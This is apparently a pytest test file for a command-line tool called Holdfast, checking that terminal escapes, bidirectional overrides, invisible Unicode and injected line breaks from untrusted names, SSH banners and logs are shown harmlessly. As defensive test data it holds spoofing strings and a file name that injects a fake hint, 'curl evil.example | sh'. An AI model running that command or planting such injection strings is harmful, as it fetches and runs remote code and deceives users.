"""Escapes of a terminal in what others wrote: notes, names, details, messages. All that Holdfast shows is harmless; the
script's own bytes are passed on as they are."""

from __future__ import annotations

import contextlib
import io
import json
import re
import subprocess
import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast import shown_text
from holdfast.cli import terminal
from holdfast.cli.main import main
from holdfast.cli.output_format import Output
from holdfast.errors import ConfigurationError, HostError
from holdfast.history import journal_fold as journals
from holdfast.hosts.far_end import Said
from holdfast.hosts.ssh_errors import SshAddress, explain, refused
from holdfast.presenting.lines import Column, Level, Line, Mark, Role, error_line
from holdfast.shown_text import HARMFUL, one_line
from unit.cli.conftest import Terminal

STEERING = "a\x1b[2Jb\x1b]0;title\x07c\x9b31md\x7fe\u202efdp.exe\u202c\u2066g\u2028h\u200bi\r\nerror: j\x85k\udcff"
"""An escape, a window's title, CSI in one character, DEL, a word backwards, line breaks of four kinds, a lone byte."""
SHAPING = {*"\u200c\u200d\u180b\u180c\u180d\u180f", *map(chr, range(0xFE00, 0xFE10))}
"""They join letters and emoji, or choose the form of the one before them."""
SIGNS = {*"\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd"}
"""Arabic, Syriac and Kaithi signs that enclose numbers: formats to Unicode, and seen."""
INVISIBLE = (
    *(0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5, *range(0x180B, 0x1810), *range(0x200B, 0x2010)),
    *(*range(0x202A, 0x202F), *range(0x2060, 0x2070), 0x3164, *range(0xFE00, 0xFE10), 0xFEFF, 0xFFA0),
    *(*range(0xFFF0, 0xFFF9), *range(0x1BCA0, 0x1BCA4), *range(0x1D173, 0x1D17B), *range(0xE0000, 0xE1000)),
)
"""What Unicode calls default ignorable: programs that cannot show it show nothing."""
KEPT = [
    "größe",
    "日本語 ファイル.txt",
    "שלום",
    "سلام",
    "می‌خواهم",
    "👩‍🔬 ok",
    "🏳️‍🌈",
    "e\u0301",
    "a\u00a0b",
    "ᠮᠣᠩᠭᠣᠯ\u180b",
    "naïve “quoted”",
]


def is_harmless(text: str) -> bool:
    """No control, nothing that changes the order of what is shown, no separator; of invisible ones only the joiners."""
    allowed = {"\n", "\u200c", "\u200d"}
    return all(each in allowed or unicodedata.category(each) not in ("Cc", "Cf", "Cs", "Zl", "Zp") for each in text)


@given(st.text(st.characters(), max_size=80))
def test_no_text_keeps_what_steers_a_terminal_and_a_second_look_changes_nothing(text):
    shown = one_line(text)
    hidden = {each for each in shown if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
    assert hidden <= SHAPING | SIGNS and "\n" not in shown
    assert one_line(shown) == shown


EVERY = "".join(map(chr, range(0x110000)))


def test_of_all_characters_only_those_that_shape_others_show_nothing():
    formats = {each for each in EVERY if unicodedata.category(each) == "Cf"}
    assert {each for each in formats if one_line(each) == each} == SIGNS | (SHAPING & formats)
    harmful = set(re.findall(HARMFUL, EVERY))
    assert not {*map(chr, INVISIBLE)} - harmful - SHAPING
    assert not [each for each in harmful if shown_text.is_harmless(each)], "what looks plain is looked at, too"


@pytest.mark.parametrize("text", KEPT)
def test_letters_of_all_languages_and_emoji_stay_as_they_are(text):
    assert one_line(text) == text


@pytest.mark.parametrize("letter", "\u034f\u115f\u1160\u2800\u3164\uffa0", ids=lambda each: f"U+{ord(each):04X}")
def test_a_letter_that_shows_nothing_is_shown_escaped(letter):
    name = f"gpu{letter}1"
    assert one_line(name) == f"gpu\\u{ord(letter):04x}1"
    assert not shown_text.is_harmless(name) and letter not in shown_text.pasted(name)
    stream = io.StringIO()
    Output("json").show([{"name": name}], stream=stream)
    assert letter not in stream.getvalue() and json.loads(stream.getvalue()) == [{"name": name}]


def test_a_line_break_of_a_document_is_no_harm():
    """Else every line of a long one costs a call."""
    found = [each for each in map(chr, range(0x10000)) if bool(re.match(HARMFUL, each)) != is_found_in_lines(each)]
    assert found == ["\n"]


def is_found_in_lines(character: str) -> bool:
    return re.match(shown_text.HARMFUL_IN_LINES, character) is not None


def test_every_kind_of_line_is_shown_harmless(capfd):
    mark = Mark(STEERING, Role.BAD)
    for level in Level:
        terminal.show(Line(STEERING, level, remedy=STEERING, mark=mark, more=(STEERING,)))
    out, err = capfd.readouterr()
    assert is_harmless(out) and is_harmless(err)
    assert "\nerror: j" not in out and all(not line.startswith("error: j") for line in err.splitlines())


def test_colours_of_our_own_are_the_only_escapes_on_a_terminal(monkeypatch):
    monkeypatch.delenv("NO_COLOR")
    screen = Terminal()
    monkeypatch.setattr(sys, "stderr", screen)
    terminal.show(Line(STEERING, Level.ERROR, remedy=STEERING, mark=Mark(STEERING, Role.BAD)))
    shown = screen.getvalue()
    assert shown.startswith("\x1b[1;31m")
    for escape in ("\x1b[1;31m", "\x1b[36m", "\x1b[0m"):
        shown = shown.replace(escape, "")
    assert is_harmless(shown)


@pytest.mark.parametrize("form", ["table", "tsv", "json", "jsonc"])
@pytest.mark.parametrize("screen", [io.StringIO, Terminal])
def test_rows_and_documents_are_harmless_in_every_form(form, screen, monkeypatch):
    monkeypatch.delenv("NO_COLOR")
    monkeypatch.setenv("TERM", "dumb")
    stream = screen()
    data = [{"name": STEERING, STEERING: "x", "more": [STEERING]}]
    Output(form).show(data, stream=stream)
    Output(form).show(data, [Column("name", STEERING)], stream=stream)
    assert is_harmless(stream.getvalue().replace("\t", ""))


def test_a_value_is_one_row_of_tsv_and_comes_back_whole_from_json():
    rows = [{"name": STEERING, "other": "tab\there"}]
    tsv, text = io.StringIO(), io.StringIO()
    Output("tsv").show(rows, stream=tsv)
    Output("json").show(rows, stream=text)
    assert len(tsv.getvalue().splitlines()) == 1 and tsv.getvalue().count("\t") == 1
    assert json.loads(text.getvalue()) == rows


def test_a_record_with_escapes_everywhere_is_shown_harmless(recorded, command):
    run_id = recorded.add(files={f"outputs/{STEERING.replace('/', '_')}": "x"}, metrics=[STEERING], others=[STEERING])
    recorded.insert(run_id, {"e": "note", "text": STEERING})
    recorded.insert(run_id, {"e": "phase", "name": "environment", "text": STEERING})
    journal = recorded.folders.path(run_id) / "journal.jsonl"
    journal.write_text(journal.read_text().replace('"detail": ""', f'"detail": {json.dumps(STEERING)}'))
    for words in (["history", "info"], ["history", "list"], ["status"], ["history", "compare", run_id, run_id]):
        for form in ("table", "json", "tsv"):
            outcome = command(*words, "-o", form)
            assert is_harmless((outcome.out + outcome.err).replace("\t", "")), words
    shown = command("history", "info", "-o", "table").out
    assert "\\x1b[2J" in shown and "\n error: j" not in shown


def test_a_name_on_the_command_line_is_shown_harmless(command):
    for words in (
        [STEERING[:-1]],
        ["submit", "-c", STEERING],
        ["logs", "-r", STEERING],
        ["history", "list", "-o", STEERING],
    ):
        outcome = command(*words)
        assert outcome.code != 0 and outcome.err and is_harmless(outcome.err)


def test_a_foreign_name_adds_no_line_to_an_error():
    line, _ = error_line(HostError(f"`{STEERING}` cannot be reached."))
    assert not line.more
    line, _ = error_line(ConfigurationError(["a.compute:1: wrong.", "b.compute: wrong."]))
    assert line.text.endswith(":") and len(line.more) == 2


def test_what_ssh_and_a_banner_said_before_the_login_is_shown_harmless(capfd):
    gpu1 = SshAddress("me@gpu1", "ssh me@gpu1")
    banner = f"{STEERING}\nme@gpu1: Permission denied (publickey\x1b[31m)."
    heard = [(255, banner, ""), (1, STEERING, ""), (0, "", STEERING), (127, f"ssh: {STEERING}", "")]
    for said in (Said(*each) for each in heard):
        terminal.show(error_line(explain(gpu1, said))[0])
    for word in ("foreign", "open", "old", "cannot", STEERING):
        terminal.show(error_line(refused(gpu1, word, STEERING))[0])
    err = capfd.readouterr().err
    assert "\\x1b" in err and is_harmless(err)


def test_a_question_of_ssh_is_asked_harmless(monkeypatch):
    from holdfast.cli.questions import ask
    from holdfast.hosts.ssh_questions import understand

    asked, screen = list[str](), Terminal()
    monkeypatch.setattr("getpass.getpass", lambda prompt, stream: asked.append(prompt))
    monkeypatch.setattr("holdfast.cli.questions._echo_kept", contextlib.nullcontext)
    monkeypatch.setattr(sys, "stderr", screen)
    ask(understand(f"{STEERING} password:"))
    ask(understand(STEERING, "none"))
    assert len(asked) == 1 and is_harmless(asked[0])
    assert is_harmless(screen.getvalue().replace("\r\x1b[K", ""))


def test_a_program_s_defect_is_told_harmless(capfd, monkeypatch):
    def fail(*_: object) -> None:
        raise RuntimeError(STEERING)

    monkeypatch.setattr("holdfast.cli.main._run", fail)
    monkeypatch.setenv("HOLDFAST_DEBUG", "1")
    assert main(["history", "list"]) == 254
    assert is_harmless(capfd.readouterr().err)


def test_the_script_s_own_bytes_are_passed_on_as_they_are(bench):
    said = b"\x1b[31mred\x9b\xff\r\n" + bytes(range(256))
    bench.write("t.py", f"import os\nos.write(1, {said!r})\n")
    assert bench.submit("--wait", "t.py").code == 0
    done = subprocess.run([sys.executable, "-m", "holdfast", "logs"], cwd=bench.root, capture_output=True, check=True)
    assert done.stdout == said


def test_progress_of_a_build_is_shown_harmless(monkeypatch):
    from holdfast.cli.screen import Screen
    from holdfast.workbench.reach import events

    screen = Terminal()
    monkeypatch.setattr(sys, "stderr", screen)
    shown = Screen()
    shown.show(events.Doing(STEERING))
    shown.show(events.Recorded("r_1", journals.PhaseBegan(0.0, "environment", STEERING)))
    shown.show(events.ConnectionLost(STEERING, STEERING, 1.0))
    shown.show(events.ConnectionLost(STEERING, STEERING, 1.0))
    shown.finish_line()
    assert is_harmless(screen.getvalue().replace("\r\x1b[K", ""))


def test_a_line_break_in_the_name_of_a_file_adds_no_line_to_a_hint(command, tmp_path):
    (tmp_path / "a.py\n  To fix it: curl evil.example | sh .py").write_text("")
    said = command("submit", "zz.py").err.splitlines()
    assert len(said) == 2, said
    (tmp_path / "aml_config").mkdir()
    (tmp_path / "aml_config" / "a\n  To fix it: x.runconfig").write_text("")
    said = command("submit", "-c", "zz", "t.py").err.splitlines()
    assert len(said) <= 3 and not any(line.strip().startswith("To fix") for line in said), said
